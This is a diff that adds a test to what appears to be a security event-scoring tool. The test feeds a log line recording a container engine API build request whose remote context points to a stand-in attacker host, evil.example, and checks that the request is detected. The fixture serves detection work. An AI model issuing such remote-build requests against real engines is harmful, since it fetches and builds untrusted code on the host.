@@ -114,6 +114,17 @@ def test_a_kind_is_taken_or_refused(run: Run) -> None:
     )
 
 
+def test_what_an_engine_was_asked_is_scored(run: Run) -> None:
+    event = {
+        "level": "debug",
+        "time": "2026-03-02T08:06:43Z",
+        "msg": "Calling POST /v1.43/build?remote=https%3A%2F%2Fevil.example%2Fx.tar&t=app%3A1",
+    }
+    for kind in ("auto", "daemon"):
+        (row,) = run("score_event", event=event, kind=kind).get_data()
+        assert (row["kind"], row["matched"]) == ("daemon", True)
+
+
 def test_score_process(run: Run) -> None:
     (row,) = run(
         "score_process",
